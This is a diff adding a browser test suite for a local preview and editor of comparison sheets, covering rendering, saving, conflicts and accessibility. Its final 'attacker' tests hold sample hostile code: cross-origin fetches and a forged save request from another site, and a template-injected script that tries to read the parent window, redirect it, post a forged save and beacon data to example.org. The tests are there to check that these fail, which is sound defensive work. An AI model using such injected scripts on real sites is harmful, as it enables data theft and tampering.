@@ -1,0 +1,352 @@
+/** A preview in a real browser: what is seen, that it stays where it was, what is typed, and what an attacker gets. */
+import { readFileSync, renameSync, rmSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import { AxeBuilder } from "@axe-core/playwright";
+import type { Browser, BrowserContextOptions, Frame, Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { hasChromium, launchChromium } from "../support/outside.js";
+import { project, SHEET } from "../support/project.js";
+import { type Served, serve } from "./served.js";
+
+const SLUG = "tea-vs-coffee";
+const FILE = `content/${SLUG}.yaml`;
+const LONG = `sections:\n${Array.from({ length: 8 }, (_, i) => `  - heading: Part ${i}\n    text: ${"Words of a part. ".repeat(9)}\n`).join("")}`;
+const OTHER = SHEET.replace("Tea vs Coffee", "Milk vs Water");
+
+let browser: Browser;
+beforeAll(async () => {
+  if (hasChromium) browser = await launchChromium();
+});
+afterAll(async () => browser?.close());
+const pages: Page[] = [];
+afterEach(async () => {
+  for (const page of pages.splice(0)) await page.context().close();
+});
+
+interface Opened {
+  readonly root: string;
+  readonly served: Served;
+  readonly page: Page;
+  /** What went wrong in it, and was said in its console. */
+  readonly faults: string[];
+  /** Addresses of other machines that were asked. */
+  readonly strangers: string[];
+}
+
+async function open(
+  files: Readonly<Record<string, string>> = {},
+  { canEdit = true, before, ...context }: BrowserContextOptions & { canEdit?: boolean; before?: string } = {},
+): Promise<Opened> {
+  const root = project({ [FILE]: SHEET + LONG, "content/milk-vs-water.yaml": OTHER, ...files });
+  const served = await serve(root, { canEdit });
+  const page = await (await browser.newContext({ viewport: { width: 1400, height: 800 }, ...context })).newPage();
+  pages.push(page);
+  const [faults, strangers]: [string[], string[]] = [[], []];
+  page.on("console", (message) => message.type() === "error" && faults.push(message.text()));
+  page.on("pageerror", (error) => faults.push(error.message));
+  page.on("request", (request) => {
+    const { protocol, hostname } = new URL(request.url());
+    if (protocol.startsWith("http") && hostname !== "127.0.0.1") strangers.push(request.url());
+  });
+  if (before !== undefined) await page.addInitScript(before);
+  await page.goto(`${served.url}#${SLUG}`);
+  return { root, served, page, faults, strangers };
+}
+
+/** The frame in which the page is seen. */
+async function shown(page: Page): Promise<Frame> {
+  const element = await page.waitForSelector('section[data-view="page"] iframe:not([data-next])');
+  return (await element.contentFrame())!;
+}
+
+/** Waits until the page that is seen says something. */
+async function says(page: Page, text: string): Promise<Frame> {
+  for (;;) {
+    try {
+      const frame = await shown(page);
+      if ((await frame.locator("main, body").first().textContent())?.includes(text)) return frame;
+    } catch {
+      // It was exchanged for the next one meanwhile.
+    }
+    await page.waitForTimeout(20);
+  }
+}
+
+const pdfText = (page: Page) => page.locator(".sheet-page canvas").first();
+
+describe.skipIf(!hasChromium)("in a browser, a preview", () => {
+  it("shows PDF and page side by side, without a fault and without asking another machine", async () => {
+    const { page, faults, strangers } = await open();
+    await says(page, "Both wake you up.");
+    await pdfText(page).waitFor();
+    const inked = await page.evaluate(() => {
+      const canvas = document.querySelector<HTMLCanvasElement>(".sheet-page canvas")!;
+      const { data } = canvas.getContext("2d")!.getImageData(0, 0, canvas.width, canvas.height);
+      return data.filter((value, i) => i % 4 === 0 && value < 128).length;
+    });
+    expect(inked).toBeGreaterThan(1000);
+    await page.locator(".cm-content").waitFor();
+    expect(faults).toEqual([]);
+    expect(strangers).toEqual([]);
+  });
+
+  it("keeps scroll and zoom over fifty saves", async () => {
+    const { root, page } = await open();
+    const text = readFileSync(join(root, FILE), "utf8");
+    await pdfText(page).waitFor();
+    await page.getByRole("button", { name: "Larger PDF" }).click();
+    await page.getByRole("button", { name: "Larger PDF" }).click();
+    const width = () => page.evaluate(() => document.querySelector<HTMLElement>(".sheet-page")!.style.width);
+    await page.waitForTimeout(300);
+    const zoomed = await width();
+    const frame = await says(page, "Both wake you up.");
+    await frame.evaluate(() => scrollTo(0, 333));
+    await page.evaluate(() => document.querySelector('section[data-view="pdf"] .view')!.scrollTo(40, 77));
+    await page.waitForTimeout(200);
+    for (let i = 0; i < 50; i++) {
+      writeFileSync(join(root, FILE), text.replace("Drunk slowly", `Drunk ${i} times`));
+      await says(page, `Drunk ${i} times`);
+    }
+    await page.waitForTimeout(500);
+    expect(await (await shown(page)).evaluate(() => scrollY)).toBe(333);
+    expect(await width()).toBe(zoomed);
+    const view = page.locator('section[data-view="pdf"] .view');
+    expect(await view.evaluate(({ scrollTop, scrollLeft }) => [Math.round(scrollTop), Math.round(scrollLeft)])).toEqual(
+      [77, 40],
+    );
+  });
+
+  it("tells errors over the last good sheet, until they are mended", async () => {
+    const { root, page } = await open();
+    await says(page, "Both wake you up.");
+    writeFileSync(join(root, FILE), SHEET.replace("table:", "tabel:"));
+    await page.getByText('did you mean "table"?').waitFor();
+    expect(await page.locator("body.stale").count()).toBe(1);
+    expect(await (await shown(page)).locator("body").textContent()).toContain("Both wake you up.");
+    writeFileSync(join(root, FILE), SHEET);
+    await page.locator("#problems").waitFor({ state: "hidden" });
+    expect(await page.locator("body.stale").count()).toBe(0);
+  });
+
+  it("leads from a text of the page or the PDF to its key, and shows where the cursor is", async () => {
+    const { page } = await open();
+    await page.locator(".cm-content").waitFor();
+    const frame = await says(page, "Both wake you up.");
+    const line = () => page.locator(".cm-activeLine").textContent();
+    await frame.getByText("Drunk slowly").click();
+    await expect.poll(line).toContain("points: [Brewed from leaves, Drunk slowly]");
+    await page.locator(".sheet-page .spot").first().waitFor();
+    expect(await frame.locator("div[aria-hidden]").count()).toBe(1);
+    const spot = (await page.locator(".sheet-page .spot").first().boundingBox())!;
+    await frame.getByText("Both wake you up.").click();
+    await expect.poll(line).toContain("intro:");
+    await page.mouse.click(spot.x + spot.width / 2, spot.y + spot.height / 2);
+    await expect.poll(line).toContain("Drunk slowly");
+  });
+
+  it("shows what is typed, saves it with Ctrl-S, and keeps both texts where somebody else was quicker", async () => {
+    const { root, page } = await open();
+    await page.locator(".cm-content").waitFor();
+    const frame = await says(page, "Both wake you up.");
+    await frame.getByText("Both wake you up.").click();
+    await expect.poll(() => page.locator(".cm-activeLine").textContent()).toContain("intro:");
+    await page.keyboard.press("End");
+    await page.keyboard.type(" Really.");
+    await says(page, "Really.");
+    expect(readFileSync(join(root, FILE), "utf8")).toBe(SHEET + LONG);
+    await page.keyboard.press("Control+s");
+    await page.getByText("saved", { exact: true }).waitFor();
+    expect(readFileSync(join(root, FILE), "utf8")).toBe((SHEET + LONG).replace("wake you up.", "wake you up. Really."));
+    await page.keyboard.type(" Mine.");
+    await says(page, "Mine.");
+    writeFileSync(join(root, FILE), `${SHEET}# theirs\n`);
+    await page.getByRole("alert").filter({ hasText: "has changed on the disk" }).waitFor();
+    await page.keyboard.press("Control+s");
+    expect(readFileSync(join(root, FILE), "utf8")).toBe(`${SHEET}# theirs\n`);
+    expect(await page.locator(".trouble pre").textContent()).toContain("# theirs");
+    await page.getByRole("button", { name: "Save mine over it" }).click();
+    await expect.poll(() => readFileSync(join(root, FILE), "utf8")).toContain("Really. Mine.");
+  });
+
+  it("keeps the text of a file that is gone", async () => {
+    const { root, page } = await open();
+    await page.locator(".cm-content").click();
+    await says(page, "Both wake you up.");
+    await page.keyboard.press("Control+Home");
+    await page.keyboard.type("# mine\n");
+    await page.getByText("not saved").waitFor();
+    rmSync(join(root, FILE));
+    await page.getByText("gone").first().waitFor();
+    await page.keyboard.press("Control+s");
+    await page.getByRole("button", { name: "Copy my text" }).waitFor();
+    expect(await page.locator(".cm-content").textContent()).toContain("# mine");
+  });
+
+  it("completes keys, and says what they are for", async () => {
+    const { page } = await open();
+    await page.locator(".cm-content").click();
+    await page.keyboard.press("Control+End");
+    await page.keyboard.type("tableN");
+    await page.locator(".cm-tooltip-autocomplete").getByText("tableNote").waitFor();
+    await page.keyboard.press("Enter");
+    await expect.poll(() => page.locator(".cm-activeLine").textContent()).toBe("tableNote: ");
+  });
+
+  it("finds sheets by the keyboard alone, and follows links between them", async () => {
+    const { page } = await open({ [FILE]: `${SHEET}related: [milk-vs-water]\n` });
+    const frame = await says(page, "Both wake you up.");
+    await frame.getByRole("link", { name: "Milk vs Water" }).first().click();
+    await page.getByRole("heading", { name: "Milk vs Water", level: 1 }).waitFor();
+    await page.keyboard.press("Control+k");
+    await page.keyboard.type("tea");
+    await page.keyboard.press("Enter");
+    await page.getByRole("heading", { name: "Tea vs Coffee", level: 1 }).waitFor();
+  });
+
+  it("draws of ten thousand sheets those alone that can be seen", async () => {
+    const { page } = await open();
+    await page.locator(".row").first().waitFor();
+    const many = Array.from({ length: 10_000 }, (_, i) => ({
+      slug: `s-${i}`,
+      title: `Sheet ${i}`,
+      errors: i === 9_000 ? 1 : 0,
+      warnings: 0,
+    }));
+    await page.route("**/events?*", (route) =>
+      route.fulfill({ contentType: "text/event-stream", body: `event: sheets\ndata: ${JSON.stringify(many)}\n\n` }),
+    );
+    await page.evaluate(() => (location.hash = "s-1"));
+    await page.getByText("10000 sheets, 1 with errors").waitFor();
+    expect(await page.locator(".row").first().textContent()).toContain("Sheet 9000");
+    expect(await page.locator(".row").count()).toBeLessThan(60);
+  });
+
+  it("says that the connection is lost, and that it is there again", async () => {
+    const { served, page } = await open();
+    await says(page, "Both wake you up.");
+    await served.end();
+    await page.getByText("Connection lost").waitFor();
+  });
+
+  it("draws the PDF sharply at any size, with links that lead on", async () => {
+    const { page } = await open({ [FILE]: `${SHEET}sources:\n  - {title: A book, url: "https://example.org/book"}\n` });
+    await pdfText(page).waitFor();
+    await page.locator('.sheet-page a[href="https://example.org/book"]').first().waitFor();
+    for (let i = 0; i < 10; i++) await page.getByRole("button", { name: "Larger PDF" }).click();
+    await page.locator(".sheet-page .sharp").waitFor();
+    const ratio = await page.evaluate(() => {
+      const canvas = document.querySelector<HTMLCanvasElement>(".sheet-page .sharp")!;
+      return canvas.width / canvas.getBoundingClientRect().width;
+    });
+    expect(ratio).toBeCloseTo(1, 2);
+  });
+
+  it("leaves the PDF to the browser where there is no WebAssembly", async () => {
+    const { page } = await open({}, { before: "delete globalThis.WebAssembly" });
+    await page.locator('section[data-view="pdf"] iframe[title="The PDF"]').waitFor({ state: "attached" });
+  });
+
+  it.each(["light", "dark"] as const)(
+    "has nothing that axe finds, in %s colours, with problems and without",
+    async (colorScheme) => {
+      const { root, page } = await open({}, { colorScheme });
+      await page.locator(".cm-content").waitFor();
+      await says(page, "Both wake you up.");
+      await page.getByRole("button", { name: "Fit", exact: true }).click();
+      await page.locator(".fit li").first().waitFor();
+      const check = async () => (await new AxeBuilder({ page }).exclude("iframe").analyze()).violations;
+      expect((await check()).map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([]);
+      writeFileSync(join(root, FILE), SHEET.replace("table:", "tabel:"));
+      await page.locator("#problems pre").waitFor();
+      expect((await check()).map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([]);
+    },
+  );
+
+  it("says how to begin where there is no content", async () => {
+    const { root, page } = await open();
+    renameSync(join(root, "content"), join(root, "elsewhere"));
+    await page.getByText('versus new "Sales" "Marketing"').waitFor();
+    await page.getByText("versus import").waitFor();
+    renameSync(join(root, "elsewhere"), join(root, "content"));
+    await says(page, "Both wake you up.");
+  });
+
+  it("has no editor with --no-edit", async () => {
+    const { page } = await open({}, { canEdit: false });
+    await says(page, "Both wake you up.");
+    expect(await page.locator(".cm-content").count()).toBe(0);
+  });
+});
+
+describe.skipIf(!hasChromium)("an attacker", () => {
+  let site: Server;
+  beforeAll(async () => {
+    site = createServer((_, response) => response.end("<!DOCTYPE html><title>evil</title>"));
+    await new Promise<void>((done) => site.listen(0, "127.0.0.1", done));
+  });
+  afterAll(() => site?.close());
+
+  it("on another site reads and writes nothing", async () => {
+    const { root, served, page } = await open();
+    await says(page, "Both wake you up.");
+    await page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`);
+    const gained = await page.evaluate(
+      async ([app, frame, file]) => {
+        const tried = [
+          () => fetch(app!),
+          () => fetch(`${app}file?file=${file}`),
+          () => fetch(`${frame}html/tea-vs-coffee.html`),
+          () => fetch(`${app}save`, { method: "POST", body: JSON.stringify({ file, text: "x", hash: "" }) }),
+        ];
+        const got: string[] = [];
+        for (const each of tried)
+          await each()
+            .then((response) => response.text())
+            .then(
+              (text) => got.push(text),
+              () => {},
+            );
+        return got;
+      },
+      [served.url, served.frame, FILE],
+    );
+    expect(gained).toEqual([]);
+    expect(readFileSync(join(root, FILE), "utf8")).toBe(SHEET + LONG);
+  });
+
+  it("who wrote a template reaches neither the editor, nor another machine, nor the window", async () => {
+    const template = readFileSync("templates/page.hbs", "utf8").replace(
+      "</main>",
+      `</main><p id="loot"></p><script>
+      (async function () {
+        var loot = [];
+        var app = document.referrer || "http://127.0.0.1:" + (Number(location.port) - 1) + "/";
+        try { loot.push(parent.document.title); } catch (error) {}
+        try { loot.push(await (await fetch(app)).text()); } catch (error) {}
+        try { loot.push(await (await fetch("https://example.org/")).text()); } catch (error) {}
+        try { top.location = "https://example.org/"; } catch (error) {}
+        new Image().src = "https://example.org/?" + document.title;
+        parent.postMessage({ versus: "save", file: "${FILE}", text: "x" }, "*");
+        document.getElementById("loot").textContent = "loot: " + loot.length;
+      })();
+      </script>`,
+    );
+    const root = { "templates/page.hbs": template };
+    const { page, strangers } = await withTemplates(root);
+    await says(page, "loot: 0");
+    await page.waitForTimeout(200);
+    expect(strangers.filter((url) => !url.startsWith("https://example.org/?"))).toEqual([]);
+    expect(await page.title()).toContain("Tea vs Coffee");
+  });
+
+  async function withTemplates(files: Readonly<Record<string, string>>): Promise<Opened> {
+    const opened = await open(files, { canEdit: false });
+    await opened.served.end();
+    const served = await serve(opened.root, { templates: "templates" });
+    opened.faults.length = 0;
+    await opened.page.goto(`${served.url}#${SLUG}`);
+    return { ...opened, served };
+  }
+});
